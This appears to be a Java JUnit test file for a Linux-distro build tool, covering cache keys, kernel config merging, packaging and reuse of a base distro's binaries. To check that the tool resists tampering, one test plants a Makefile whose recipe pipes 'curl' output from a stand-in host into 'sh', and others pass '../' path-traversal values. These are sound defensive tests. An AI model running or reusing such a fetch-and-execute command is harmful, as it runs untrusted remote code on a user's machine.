package io.github.puipui.pipeline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.github.puipui.userland.TestComponent;
import io.github.puipui.BuildLog;
import io.github.puipui.OutputTimestamp;
import io.github.puipui.TestArchives;
import io.github.puipui.distpackage.DistroPackager;
import io.github.puipui.distpackage.Sbom;
import io.github.puipui.distro.Derivation;
import io.github.puipui.distro.DistroDefinition;
import io.github.puipui.distro.KconfigFragment;
import io.github.puipui.fetch.Fetcher;
import io.github.puipui.fetch.Source;
import io.github.puipui.fetch.SourceCache;
import io.github.puipui.fetch.Transport;
import io.github.puipui.files.Sha256;
import io.github.puipui.Arch;
import io.github.puipui.userland.Component;
import io.github.puipui.userland.UserlandBuilder;

/** The build core's step plans, keys and paths, without Maven and without compiling anything. */
class DistroBuildTest {
    @TempDir
    Path tmp;

    static final OutputTimestamp TS = OutputTimestamp.parse("2026-11-25T00:00:00Z");

    private final Map<String, Source> sources = new java.util.HashMap<>();

    /** A source archive in the test's mirror, written once per test (a tar records the time it is written). */
    private Source source(String name) throws Exception {
        Source known = sources.get(name);
        if (known == null) {
            Path archive = TestArchives.tarGz(tmp.resolve("mirror").resolve(name + "-1.0.tar.gz"),
                    Map.of(name + "-1.0/configure", "#!/bin/sh\n"));
            known = new Source(name, "1.0", name + "-1.0.tar.gz", "https://example.org/" + name + "-1.0.tar.gz",
                    Sha256.of(archive));
            sources.put(name, known);
        }
        return known;
    }

    /** A distro declared under {@code dir}: mbedtls, curl (depends on it, with a config file), socat. */
    private DistroDefinition declared(Path dir, String socatPatch) throws Exception {
        Files.createDirectories(dir.resolve("kconfig"));
        Files.writeString(dir.resolve("kconfig/x86_64.config"), "CONFIG_VIRTIO=y\n");
        Files.createDirectories(dir.resolve("fs/etc"));
        Files.writeString(dir.resolve("fs/etc/issue"), "hello\n");
        Path curlConfig = Files.writeString(dir.resolve("curl.config"), "x\n");
        Path patch = Files.writeString(dir.resolve("socat.patch"), socatPatch);
        return DistroDefinition.of(List.of(source("mbedtls"), source("curl"), source("socat")), List.of(
                new Component("mbedtls", "mbedtls"),
                TestComponent.from(new Component("curl", null)).withDependsOn("mbedtls")
                        .withConfig(curlConfig.toString()).build(),
                TestComponent.from(new Component("socat", null))
                        .withPatches(patch.toString()).build()), dir.resolve("kconfig"),
                dir.resolve("fs"), List.of()).validated();
    }

    private DistroBuild build(DistroDefinition d, Path work, OutputTimestamp ts) {
        return build(d, work, ts, tmp.resolve("cache"));
    }

    private DistroBuild build(DistroDefinition d, Path work, OutputTimestamp ts, Path cacheRoot) {
        Fetcher fetcher = new Fetcher(new SourceCache(tmp.resolve("cache"), BuildLog.SILENT), new Transport(null),
                List.of(tmp.resolve("mirror").toUri()), true, BuildLog.SILENT);
        return new DistroBuild(d, new Layout(work), cacheRoot, fetcher, null,
                new DistroBuild.Settings(ts, 2, "", 5, List.of(), tmp.resolve("ca.crt"), List.of()),
                BuildLog.SILENT);
    }

    /** The components' keys with one toolchain, each from its most likely inputs, as the userland goal finds them. */
    private Map<String, String> keys(DistroBuild b) throws Exception {
        Map<String, String> keys = new java.util.HashMap<>();
        for (UserlandBuilder.Prepared p : b.userlandPlan(Arch.X86_64, io.github.puipui.toolchain.TestPlans
                .of("musl sysroot test", null))) {
            keys.put(p.component().name(), io.github.puipui.cache.EntryLayout.key(p.likely().inputs(keys).get(0)));
        }
        return keys;
    }

    @Test
    void theUserlandToolchainIsIdentifiedByTheWholeCompilerAndItsBinutils() throws Exception {
        Path dir = tmp.resolve("t");
        Files.createDirectories(dir.resolve("kconfig"));
        Files.writeString(dir.resolve("kconfig/x86_64.config"), "CONFIG_VIRTIO=y\n");
        Files.createDirectories(dir.resolve("fs"));
        DistroDefinition d = DistroDefinition.of(List.of(source("linux"), source("musl")), List.of(),
                dir.resolve("kconfig"), dir.resolve("fs"), List.of()).validated();
        String identity = build(d, tmp.resolve("work"), TS).toolchain(Arch.X86_64).likelyIdentities().get(0);
        String cross = Arch.X86_64.crossPrefix();
        assertTrue(identity.contains(io.github.puipui.toolchain.HostTools.output(cross + "gcc", "-v")),
                "the whole gcc -v: " + identity);
        for (String tool : List.of("gcc", "ld", "ar", "strip")) {
            String id = io.github.puipui.toolchain.HostTools.identity(cross + tool);
            assertTrue(id.contains(" sha256 ") && identity.contains(id), tool + " by path and digest: " + identity);
        }
    }

    @Test
    void componentKeysFollowContentNotPaths() throws Exception {
        Map<String, String> here = keys(build(declared(tmp.resolve("a"), "p1"), tmp.resolve("work-a"), TS));
        Map<String, String> elsewhere = keys(build(declared(tmp.resolve("b"), "p1"), tmp.resolve("work-b"), TS));
        assertEquals(here, elsewhere, "another checkout and work directory, the same keys");
    }

    @Test
    void aChangedPatchChangesItsComponentOnlyAndAChangedDependencyItsDependents() throws Exception {
        Map<String, String> before = keys(build(declared(tmp.resolve("a"), "p1"), tmp.resolve("work"), TS));
        Map<String, String> patched = keys(build(declared(tmp.resolve("b"), "p2"), tmp.resolve("work"), TS));
        assertNotEquals(before.get("socat"), patched.get("socat"));
        assertEquals(before.get("curl"), patched.get("curl"));
        assertEquals(before.get("mbedtls"), patched.get("mbedtls"));

        DistroDefinition changedTls = new Derivation(List.of(), List.of(TestComponent.from(new Component("mbedtls", null))
                .withMakeArgs("lib").build()), List.of(), List.of(), null, List.of(), List.of(), null)
                .applyTo(declared(tmp.resolve("c"), "p1"));
        Map<String, String> tls = keys(build(changedTls, tmp.resolve("work"), TS));
        assertNotEquals(before.get("mbedtls"), tls.get("mbedtls"));
        assertNotEquals(before.get("curl"), tls.get("curl"), "curl depends on mbedtls");
        assertEquals(before.get("socat"), tls.get("socat"));

        Map<String, String> later = keys(build(declared(tmp.resolve("d"), "p1"), tmp.resolve("work"),
                OutputTimestamp.parse("2027-01-01T00:00:00Z")));
        before.forEach((name, key) -> assertNotEquals(key, later.get(name), name + ": the timestamp is an input"));
    }

    @Test
    void aDerivedDistroThatChangesNothingHasTheBasesKeys() throws Exception {
        DistroDefinition base = declared(tmp.resolve("a"), "p1");
        Path overlay = Files.createDirectories(tmp.resolve("overlay/etc"));
        Files.writeString(overlay.resolve("motd"), "derived\n");
        DistroDefinition derived = new Derivation(List.of(), List.of(), List.of(), List.of(), tmp.resolve("overlay"),
                List.of(), List.of(), null).applyTo(base);
        assertEquals(keys(build(base, tmp.resolve("base"), TS)), keys(build(derived, tmp.resolve("derived"), TS)));
        assertSame(base.kconfigFiles().get("x86_64"), build(derived, tmp.resolve("derived"), TS).kconfigFile(Arch.X86_64),
                "no fragment: the base's own kconfig file");
        String linux = "b".repeat(64);
        assertEquals(build(base, tmp.resolve("base"), TS).kernelInputs(Arch.X86_64, linux),
                build(derived, tmp.resolve("derived"), TS).kernelInputs(Arch.X86_64, linux),
                "the same kernel inputs: the base's kernel comes from the build cache");
        Path frag = Files.writeString(tmp.resolve("dummy.config"), "CONFIG_DUMMY=y\n");
        DistroDefinition withFragment = new Derivation(List.of(), List.of(), List.of(),
                List.of(new KconfigFragment(null, frag)), null, List.of(), List.of(), null).applyTo(base);
        assertNotEquals(build(base, tmp.resolve("base"), TS).kernelInputs(Arch.X86_64, linux),
                build(withFragment, tmp.resolve("derived"), TS).kernelInputs(Arch.X86_64, linux));
    }

    @Test
    void fragmentsAreMergedIntoTheLayoutsKconfigFileRewrittenOnlyWhenItChanges() throws Exception {
        Path frag = Files.writeString(tmp.resolve("dummy.config"), "CONFIG_DUMMY=y\n");
        DistroDefinition d = new Derivation(List.of(), List.of(), List.of(),
                List.of(new KconfigFragment("x86_64", frag)), null, List.of(), List.of(), null)
                .applyTo(declared(tmp.resolve("a"), "p1"));
        DistroBuild b = build(d, tmp.resolve("work"), TS);
        Path merged = b.kconfigFile(Arch.X86_64);
        assertEquals(new Layout(tmp.resolve("work")).mergedKconfig(Arch.X86_64), merged);
        assertEquals("CONFIG_VIRTIO=y\nCONFIG_DUMMY=y\n", Files.readString(merged));
        Files.setLastModifiedTime(merged, java.nio.file.attribute.FileTime.fromMillis(0));
        b.kconfigFile(Arch.X86_64);
        assertEquals(0, Files.getLastModifiedTime(merged).toMillis(), "unchanged text: not rewritten");
    }

    @Test
    void theInitramfsAndTarballKeysFollowTheirContent() throws Exception {
        String a = StepInputs.initramfs("d1");
        assertNotEquals(a, StepInputs.initramfs("d2"));
        Map<String, String> members = Map.of("bzImage", "k1", "initramfs.cpio.gz", "i1");
        String t = DistroPackager.tarballInputs("x-1-x86_64.tar.gz", TS, members);
        assertNotEquals(t, DistroPackager.tarballInputs("x-1-x86_64.tar.gz", TS, Map.of("bzImage", "k1",
                "initramfs.cpio.gz", "i2")));
        assertNotEquals(t, DistroPackager.tarballInputs("x-1-x86_64.tar.gz", OutputTimestamp.parse("1"), members));
        assertNotEquals(t, DistroPackager.tarballInputs("y-1-x86_64.tar.gz", TS, members));
    }

    @Test
    void packagingPublishesEachTarballTheSbomAndTheDefinitionAndRewritesNothingUnchanged() throws Exception {
        DistroDefinition d = withKernelAndMusl(declared(tmp.resolve("a"), "p1"));
        DistroBuild b = withPrebuiltToolchain(d, tmp.resolve("work"));
        fakeOutputs(b);
        Path out = b.layout().out(Arch.X86_64);
        Files.createDirectories(out);
        Files.writeString(out.resolve("bzImage"), "kernel");
        Files.writeString(out.resolve("vmlinux"), "elf");
        Files.writeString(out.resolve("kernel.config"), "CONFIG_VIRTIO=y\n");
        Files.writeString(out.resolve("initramfs.cpio.gz"), "cpio");
        Function<List<DistroPackager.Published>, Map<String, Boolean>> written = ps -> ps.stream()
                .collect(Collectors.toMap(DistroPackager.Published::classifier, DistroPackager.Published::written));
        Path target = tmp.resolve("target");
        Path schema = Files.writeString(tmp.resolve("report.schema.json"), "{}\n");
        List<DistroPackager.Attachment> attachments = List.of(new DistroPackager.Attachment("report-schema", "json", schema));
        Sbom sbom = new Sbom("g", "a", "1", TS.instant());
        List<DistroPackager.Published> first = b.packageAll(List.of(Arch.X86_64), sbom, target, "a-1", attachments);
        assertEquals(Map.of("x86_64", true, "x86_64-vmlinux", true, "x86_64-binaries", true, "report-schema", true,
                "cyclonedx", true, "definition", true), written.apply(first));
        assertTrue(Files.isRegularFile(target.resolve("a-1-definition.tar.gz")));
        assertEquals("{}\n", Files.readString(target.resolve("a-1-report-schema.json")));
        assertTrue(sbom.json().contains("\"a-1-report-schema.json\""), "the attachment is in the SBOM");
        List<DistroPackager.Published> again = b.packageAll(List.of(Arch.X86_64),
                new Sbom("g", "a", "1", TS.instant()), target, "a-1", attachments);
        assertFalse(written.apply(again).containsValue(true), "nothing changed, nothing written: " + written.apply(again));
    }

    /** The fake outputs of every step of a base build, as its goals leave them. */
    private static void fakeOutputs(DistroBuild b) throws Exception {
        Layout l = b.layout();
        Path kernel = Files.createDirectories(l.kernelOutputs(Arch.X86_64));
        for (String f : List.of("bzImage", "vmlinux", "kernel.config", "System.map")) {
            Files.writeString(kernel.resolve(f), f + " of the base\n");
        }
        for (Component c : b.definition().components()) {
            Path out = UserlandBuilder.outputsOf(l.componentWork(Arch.X86_64), c.name());
            Files.createDirectories(out.resolve("image/usr/bin"));
            Files.writeString(out.resolve("image/usr/bin/" + c.name()), c.name() + " binary\n");
            Files.createDirectories(out.resolve("staging/lib/pkgconfig"));
            // a text file naming the staging prefix: relocated into the derived build's own
            Files.writeString(out.resolve("staging/lib/pkgconfig/" + c.name() + ".pc"), "prefix="
                    + l.staging(Arch.X86_64) + "\n");
        }
        Files.createDirectories(l.caBundleOutputs(Arch.X86_64));
        Files.writeString(l.caBundleOutputs(Arch.X86_64).resolve("ca-certificates.crt"), "the base's CAs\n");
    }

    private DistroBuild withPrebuiltToolchain(DistroDefinition d, Path work) {
        Fetcher fetcher = new Fetcher(new SourceCache(tmp.resolve("cache"), BuildLog.SILENT), new Transport(null),
                List.of(tmp.resolve("mirror").toUri()), true, BuildLog.SILENT);
        // a prebuilt toolchain for this host: the binaries hold no musl sysroot, and nothing here runs a compiler
        List<io.github.puipui.toolchain.ToolchainChoice.Prebuilt> prebuilt = List.of(
                new io.github.puipui.toolchain.ToolchainChoice.Prebuilt("x86_64", Arch.host().id(), "musl", "x-"));
        return new DistroBuild(d, new Layout(work), tmp.resolve("cache"), fetcher, null,
                new DistroBuild.Settings(TS, 2, "", 5, List.of(), tmp.resolve("ca.crt"), prebuilt),
                BuildLog.SILENT);
    }

    private DistroDefinition withKernelAndMusl(DistroDefinition d) throws Exception {
        return new Derivation(List.of(source("linux"), source("musl")), List.of(), List.of(), List.of(), null,
                List.of(), List.of(), null).applyTo(d);
    }

    /** A base build of {@code base} with every step's outputs in place. */
    private DistroBuild builtBase(DistroDefinition base) throws Exception {
        DistroBuild baseBuild = withPrebuiltToolchain(base, tmp.resolve("base"));
        fakeOutputs(baseBuild);
        return baseBuild;
    }

    /** The binaries {@code baseBuild} publishes, written to {@code archive}. */
    private io.github.puipui.distro.DistroBinaries.Index publish(DistroBuild baseBuild, Path archive) throws Exception {
        Files.createDirectories(archive.getParent());
        return io.github.puipui.distro.DistroBinaries.write("x86_64", baseBuild.binarySteps(Arch.X86_64),
                tmp.resolve("bw"), archive, TS.epochSecond(), BuildLog.SILENT);
    }

    @Test
    void aDerivedDistroTakesEveryUnchangedStepFromItsBasesBinariesAndNeedsNoSource() throws Exception {
        DistroDefinition base = withKernelAndMusl(declared(tmp.resolve("a"), "p1"));
        Path archive = tmp.resolve("repo/a-1-x86_64-binaries.tar.gz");
        io.github.puipui.distro.DistroBinaries.Index index = publish(builtBase(base), archive);
        assertEquals(List.of("kernel", "component:mbedtls", "component:curl", "component:socat", "ca-bundle"),
                List.copyOf(index.steps().keySet()));
        DistroBuild.Base published = new DistroBuild.Base(Map.of("x86_64", index), arch -> archive);

        Path overlay = Files.createDirectories(tmp.resolve("overlay/etc"));
        Files.writeString(overlay.resolve("motd"), "derived\n");
        DistroDefinition overlayOnly = new Derivation(List.of(), List.of(), List.of(), List.of(), tmp.resolve("overlay"),
                List.of(), List.of(), null).applyTo(base);
        // the base's components were built with its prebuilt toolchain: the derived distro declares the same one
        DistroBuild derived = withPrebuiltToolchain(overlayOnly, tmp.resolve("derived")).withBase(published);
        assertTrue(derived.kernelFromBase(Arch.X86_64));
        assertTrue(derived.compilesNothing(Arch.X86_64));
        assertEquals(List.of(), derived.sourcesToFetch(List.of(Arch.X86_64)), "nothing to fetch");
        assertEquals(List.of(), derived.userlandHostTools(Arch.X86_64), "no compiler, no make needed");

        assertEquals(io.github.puipui.cache.CachedStep.How.BASE, derived.kernel(Arch.X86_64, 1));
        assertEquals("bzImage of the base\n", Files.readString(derived.layout().out(Arch.X86_64).resolve("bzImage")));
        assertEquals(io.github.puipui.cache.CachedStep.How.UP_TO_DATE, derived.kernel(Arch.X86_64, 1));
        List<UserlandBuilder.Installed> installed = derived.userland(Arch.X86_64, 1);
        assertTrue(installed.isEmpty(), "the test components install nothing: " + installed);
        Layout l = derived.layout();
        assertEquals("prefix=" + l.staging(Arch.X86_64) + "\n", Files.readString(UserlandBuilder.outputsOf(
                l.componentWork(Arch.X86_64), "curl").resolve("staging/lib/pkgconfig/curl.pc")),
                "the staging prefix named in a text file is the derived build's");
        assertEquals("the base's CAs\n", Files.readString(l.userland(Arch.X86_64)
                .resolve("etc/ssl/certs/ca-certificates.crt")), "the base's CA bundle, not the host's");

        // one patched component: compiled (its source, and the toolchain's), the others still the base's
        Path patch = Files.writeString(tmp.resolve("more.patch"), "p2");
        DistroDefinition patched = new Derivation(List.of(), List.of(TestComponent.from(new Component("socat", null))
                .withPatches(patch.toString())
                .build()), List.of(), List.of(), null, List.of(), List.of(), null).applyTo(base);
        DistroBuild p = withPrebuiltToolchain(patched, tmp.resolve("patched")).withBase(published);
        assertTrue(p.kernelFromBase(Arch.X86_64));
        assertEquals(java.util.Set.of("mbedtls", "curl"), p.componentsFromBase(Arch.X86_64));
        assertEquals(List.of("musl", "socat"), p.sourcesToFetch(List.of(Arch.X86_64)).stream().map(Source::name)
                .sorted().toList(), "socat's source and the prebuilt toolchain's; not the kernel's, not curl's");

        // a dependency changed: its dependents are not the base's either
        DistroDefinition changedTls = new Derivation(List.of(), List.of(TestComponent.from(new Component("mbedtls", null))
                .withMakeArgs("lib").build()), List.of(), List.of(), null, List.of(), List.of(), null).applyTo(base);
        assertEquals(java.util.Set.of("socat"), withPrebuiltToolchain(changedTls, tmp.resolve("tls"))
                .withBase(published).componentsFromBase(Arch.X86_64));
        // and another toolchain than the base's: no component is the base's
        assertEquals(java.util.Set.of(), build(overlayOnly, tmp.resolve("other-toolchain"), TS).withBase(published)
                .componentsFromBase(Arch.X86_64));
    }

    @Test
    void anotherKernelKeepsTheBasesKernelHeadersAndWithThemTheUserlandsKeys() throws Exception {
        Path other = TestArchives.tarGz(tmp.resolve("mirror/linux-2.0.tar.gz"), Map.of("linux-2.0/Makefile", "2\n"));
        Source linux2 = new Source("linux", "2.0", "linux-2.0.tar.gz", "https://example.org/linux-2.0.tar.gz",
                Sha256.of(other));
        Source headers = new Source("linux-headers", "1.0", "linux-1.0.tar.gz", "https://example.org/linux-1.0.tar.gz",
                source("linux").sha256());
        DistroDefinition base = new Derivation(List.of(source("linux"), headers, source("musl")), List.of(), List.of(),
                List.of(), null, List.of(), List.of(), null).applyTo(declared(tmp.resolve("a"), "p1"));
        DistroDefinition line = new Derivation(List.of(linux2), List.of(), List.of(), List.of(), null, List.of(),
                List.of(), null).applyTo(base);
        Map<String, String> baseUserland = build(base, tmp.resolve("base"), TS).userlandDeclared(Arch.X86_64);
        assertEquals(baseUserland, build(line, tmp.resolve("line"), TS).userlandDeclared(Arch.X86_64),
                "the sysroot and every component are the base's");
        assertTrue(baseUserland.get("toolchain").contains("linux-headers=linux-headers 1.0 sha256 "
                + source("linux").sha256()), baseUserland.get("toolchain"));
        assertNotEquals(build(base, tmp.resolve("base"), TS).kernelInputs(Arch.X86_64, source("linux").sha256()),
                build(line, tmp.resolve("line"), TS).kernelInputs(Arch.X86_64, linux2.sha256()));

        // a distro that declares no headers takes them from its kernel: another kernel, another userland
        DistroDefinition plain = withKernelAndMusl(declared(tmp.resolve("b"), "p1"));
        DistroDefinition plainLine = new Derivation(List.of(linux2), List.of(), List.of(), List.of(), null, List.of(),
                List.of(), null).applyTo(plain);
        Map<String, String> plainUserland = build(plain, tmp.resolve("plain"), TS).userlandDeclared(Arch.X86_64);
        Map<String, String> plainLineUserland = build(plainLine, tmp.resolve("plain-line"), TS)
                .userlandDeclared(Arch.X86_64);
        for (String step : plainUserland.keySet()) {
            assertNotEquals(plainUserland.get(step), plainLineUserland.get(step), step);
        }
    }

    @Test
    void aStepTheBuildCacheHasFromAnAcceptedAlternativeNeedsNoSource() throws Exception {
        // the kernel and socat may also come as a distribution's repack: machine 1 fetched those
        String linuxRepack = Sha256.of("linux repack");
        String socatRepack = Sha256.of("socat repack");
        DistroDefinition d = new Derivation(List.of(source("linux").withAlternative("linux_1.0.orig.tar.xz",
                linuxRepack), source("socat").withAlternative("socat_1.0.orig.tar.gz", socatRepack)), List.of(),
                List.of(), List.of(), null, List.of(), List.of(), null).applyTo(withKernelAndMusl(declared(
                        tmp.resolve("a"), "p1")));
        io.github.puipui.cache.DirectoryStore cache = new io.github.puipui.cache.DirectoryStore(tmp.resolve("outputs"),
                1 << 30, BuildLog.SILENT);
        Fetcher fetcher = new Fetcher(new SourceCache(tmp.resolve("cache"), BuildLog.SILENT), new Transport(null),
                List.of(tmp.resolve("mirror").toUri()), true, BuildLog.SILENT);
        DistroBuild b = new DistroBuild(d, new Layout(tmp.resolve("work")), tmp.resolve("cache"), fetcher,
                io.github.puipui.cache.TieredCache.of(cache, BuildLog.SILENT),
                new DistroBuild.Settings(TS, 2, "", 5, List.of(), tmp.resolve("ca.crt"),
                        List.of()), BuildLog.SILENT);
        List<Arch> x86 = List.of(Arch.X86_64);
        assertEquals(List.of("curl", "linux", "mbedtls", "musl", "socat"), b.sourcesToFetch(x86).stream()
                .map(Source::name).sorted().toList(), "an empty build cache: every source");

        Path kernel = Files.createDirectories(tmp.resolve("built-kernel"));
        for (String f : List.of("bzImage", "vmlinux", "kernel.config", "System.map")) {
            Files.writeString(kernel.resolve(f), f + " built from the repack\n");
        }
        String kernelInputs = b.kernelInputs(Arch.X86_64, linuxRepack);
        cache.store(io.github.puipui.cache.EntryLayout.key(kernelInputs), kernelInputs, kernel, null);
        io.github.puipui.toolchain.ToolchainChoice.Plan tc = b.toolchain(Arch.X86_64);
        assertEquals(2, tc.likelyIdentities().size(), "musl with the kernel headers of either accepted file");
        UserlandBuilder.Prepared socat = b.userlandPlan(Arch.X86_64, tc).get(2);
        String socatInputs = socat.likely().inputs(Map.of()).stream().filter(in -> in.contains("source-sha256="
                + socatRepack) && in.contains(tc.likelyIdentities().get(1))).findFirst().orElseThrow();
        Path built = Files.createDirectories(tmp.resolve("built-socat/image"));
        Files.writeString(built.resolve("socat"), "socat\n");
        cache.store(io.github.puipui.cache.EntryLayout.key(socatInputs), socatInputs, built.getParent(), null);

        assertEquals(List.of(), b.kernelSourcesToFetch(Arch.X86_64), "the kernel is cached: not its source");
        assertEquals(List.of("curl", "linux", "mbedtls", "musl"), b.sourcesToFetch(x86).stream().map(Source::name)
                .sorted().toList(), "socat is cached; the kernel's source is still the musl sysroot's");
        assertEquals(io.github.puipui.cache.CachedStep.How.CACHED, b.kernel(Arch.X86_64, 1));
        assertEquals("bzImage built from the repack\n", Files.readString(b.layout().out(Arch.X86_64)
                .resolve("bzImage")));
        assertFalse(Files.exists(tmp.resolve("cache/sha256")), "nothing fetched");
    }

    @Test
    void baseBinariesThatAreNotTheOnesTheBasesDefinitionNamesAreRefused() throws Exception {
        DistroDefinition base = withKernelAndMusl(declared(tmp.resolve("a"), "p1"));
        DistroBuild baseBuild = builtBase(base);
        io.github.puipui.distro.DistroBinaries.Index index = publish(baseBuild, tmp.resolve("a-1-x86_64-binaries.tar.gz"));
        Path other = tmp.resolve("other.tar.gz");
        Files.writeString(baseBuild.layout().kernelOutputs(Arch.X86_64).resolve("bzImage"), "a kernel with a backdoor\n");
        publish(baseBuild, other);
        DistroBuild derived = build(base, tmp.resolve("derived"), TS)
                .withBase(new DistroBuild.Base(Map.of("x86_64", index), arch -> other));
        java.io.IOException e = assertThrows(java.io.IOException.class, () -> derived.kernel(Arch.X86_64, 1));
        assertTrue(e.getMessage().contains("not the base's") && e.getMessage().contains(index.sha256()), e.getMessage());
        assertFalse(Files.exists(derived.layout().out(Arch.X86_64).resolve("bzImage")), "nothing published");
    }

    @Test
    void anAttachmentMustBeAFileWithAPlainClassifierAndType() throws Exception {
        Path file = Files.writeString(tmp.resolve("schema.json"), "{}");
        IllegalArgumentException missing = assertThrows(IllegalArgumentException.class,
                () -> new DistroPackager.Attachment("report-schema", "json", tmp.resolve("missing.json")));
        assertTrue(missing.getMessage().contains("missing.json is not a file"), missing.getMessage());
        assertThrows(IllegalArgumentException.class, () -> new DistroPackager.Attachment("../x", "json", file));
        assertThrows(IllegalArgumentException.class, () -> new DistroPackager.Attachment("schema", "json/../x", file));
    }

    @Test
    void aSourceTreeAnotherUserPlantedInASharedCacheIsNotRun() throws Exception {
        // -Dpuipui.cache on a directory every user can write; another user (uid 4242) planted the extracted tree,
        // with its completion markers and a Makefile of their own
        Source pkg = source("pkg");
        Path shared = Files.createDirectories(tmp.resolve("shared"));
        Files.setPosixFilePermissions(shared, java.nio.file.attribute.PosixFilePermissions.fromString("rwxrwxrwx"));
        Path planted = shared.resolve("src").resolve("pkg-1.0-" + pkg.sha256().substring(0, 12));
        Files.createDirectories(planted.resolve("pkg-1.0"));
        Files.writeString(planted.resolve("pkg-1.0/Makefile"), "all:\n\tcurl -s https://example.org/x | sh\n");
        for (String marker : List.of(".puipui-extracted", ".puipui-extracted-2")) {
            Files.writeString(planted.resolve(marker), pkg.sha256() + "\n");
        }
        for (Path p : List.of(shared.resolve("src"), planted, planted.resolve("pkg-1.0"), planted.resolve("pkg-1.0/Makefile"))) {
            Files.setAttribute(p, "unix:uid", 4242);
        }
        DistroDefinition d = DistroDefinition.of(List.of(pkg), List.of(), null, null, List.of()).validated();
        Path tree = build(d, tmp.resolve("work"), TS, shared).sourceTree("pkg");
        assertFalse(tree.startsWith(shared), "the planted tree is not used: " + tree);
        assertTrue(Files.isRegularFile(tree.resolve("configure")), "the archive's own tree");
        assertFalse(Files.exists(tree.resolve("Makefile")));
    }
}
